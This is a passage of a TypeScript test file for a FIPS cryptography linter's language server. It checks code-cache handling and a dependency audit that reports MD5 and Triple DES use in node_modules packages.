    const expected = ['hash-algorithm', 'rsa-key-size', 'tls-certificate-validation'];
    try {
      const first = await diagnosticsOfOneStart();
      assert.deepEqual(first.codes, expected);
      const deadline = Date.now() + 20_000;
      while ((ownCaches().length === 0 || fs.existsSync(staleCache)) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 200));
      assert.equal(await first.client.stop(), 0);
      const [cacheFile] = ownCaches();
      assert.ok(cacheFile, 'the first start wrote a code cache');
      assert.ok(!fs.existsSync(staleCache), 'a cache of another version unused for 40 days is deleted');
      assert.ok(fs.existsSync(recentCache), 'a cache of another version used recently is kept');
      assert.equal(fs.statSync(path.join(cacheDir, cacheFile)).mode & 0o077, 0, 'the cache is readable by its owner only');

      const second = await diagnosticsOfOneStart();
      assert.deepEqual(second.codes, expected);
      assert.equal(await second.client.stop(), 0);

      fs.writeFileSync(path.join(cacheDir, cacheFile), Buffer.alloc(4096, 7));
      const corrupt = await diagnosticsOfOneStart();
      assert.deepEqual(corrupt.codes, expected);
      assert.equal(await corrupt.client.stop(), 0);
    } finally {
      fs.rmSync(cacheHome, { recursive: true, force: true });
    }
  });
});

describe('language server over stdio (dependency audit)', () => {
  it('audits node_modules only when asked, sends packages with assets and reach, and never lints a dependency’s file in the editor', async () => {
    const workspace = fs.mkdtempSync(path.join(os.tmpdir(), 'fipslint-deps-lsp-'));
    fs.cpSync(path.join(__dirname, '..', '..', 'test', 'fixtures', 'deps-project'), workspace, { recursive: true });
    const cacheHome = fs.mkdtempSync(path.join(os.tmpdir(), 'fipslint-deps-lsp-cache-'));
    const client = new TestClient({ ...process.env, XDG_CACHE_HOME: cacheHome });
    try {
      await client.initialize(workspace, { workspace: { configuration: true, workspaceFolders: true } });
      client.connection.onRequest('workspace/workspaceFolders', () => [{ uri: pathToFileURL(workspace).href, name: 'ws' }]);
      type PackageView = { name: string; version: string; scope: string; route: string; counts: { wouldThrow: number }; cryptoLibrary?: string; loadedFrom?: string; assets: Array<{ id: string; name: string; occurrences: Array<{ file: string; line: number; reachableFrom?: string }> }> };
      const message = (await client.connection.sendRequest('fipslint/auditDependencies', {})) as { folders: Array<{ root: string; audited: number; packages: PackageView[]; cache: { hits: number; misses: number } }> };
      assert.equal(message.folders.length, 1);
      const [folder] = message.folders;
      assert.deepEqual([folder.audited, folder.cache], [7, { hits: 0, misses: 7 }]);
      const db = folder.packages.find((p) => p.name === 'acme-db')!;
      assert.deepEqual([db.version, db.scope, db.route, db.counts.wouldThrow, db.loadedFrom], ['3.1.0', 'production', 'direct', 2, 'src/app.js']);
      const md5 = db.assets.find((a) => a.name === 'MD5')!;
      assert.deepEqual(md5.occurrences.map((o) => [path.relative(workspace, o.file), o.line, o.reachableFrom]), [
        [path.join('node_modules', 'acme-db', 'lib', 'password.js'), 6, 'src/app.js'],
        [path.join('node_modules', 'acme-db', 'lib', 'password.js'), 7, 'src/app.js'],
      ]);
      assert.ok(md5.id.startsWith('node_modules/acme-db#'), 'asset ids are unique across packages');
      const tripleDes = db.assets.find((a) => a.id.includes('des-ede3-cbc'));
      assert.ok(tripleDes, 'the Triple DES use is listed');
      assert.deepEqual(tripleDes.occurrences.map((o) => o.reachableFrom), [undefined], 'a file nothing loads is only present');
      assert.equal(folder.packages.find((p) => p.name === 'crypto-js')?.cryptoLibrary, 'crypto-js');
      assert.equal(folder.packages.some((p) => p.name === '@acme/util'), false, 'packages without crypto are counted, not listed');
      assert.deepEqual(client.published, [], 'the audit publishes no diagnostics');

      const again = (await client.connection.sendRequest('fipslint/auditDependencies', {})) as { folders: Array<{ cache: { hits: number; misses: number } }> };
      assert.deepEqual(again.folders[0].cache, { hits: 7, misses: 0 });

      // Opened from the view: a dependency's file gets no diagnostics; the project's own file does.
      const dependencyFile = path.join(workspace, 'node_modules', 'acme-db', 'lib', 'password.js');
      const ownFile = path.join(workspace, 'src', 'own.js');
      const ownText = "require('crypto').createHash('md5');\n";
      await client.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri: pathToFileURL(dependencyFile).href, languageId: 'javascript', version: 1, text: fs.readFileSync(dependencyFile, 'utf8') } });
      await client.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri: pathToFileURL(ownFile).href, languageId: 'javascript', version: 1, text: ownText } });
      const own = await client.diagnostics((p) => p.uri === pathToFileURL(ownFile).href, 'the project file');
      assert.deepEqual(own.diagnostics.map((d) => d.code), ['hash-algorithm']);
      const dependency = await client.diagnostics((p) => p.uri === pathToFileURL(dependencyFile).href, 'the dependency file');
      assert.deepEqual(dependency.diagnostics, []);
      assert.equal(await client.stop(), 0);
    } finally {
      if (client.process.exitCode === null) client.process.kill();
      fs.rmSync(workspace, { recursive: true, force: true });
      fs.rmSync(cacheHome, { recursive: true, force: true });
    }
  });
});
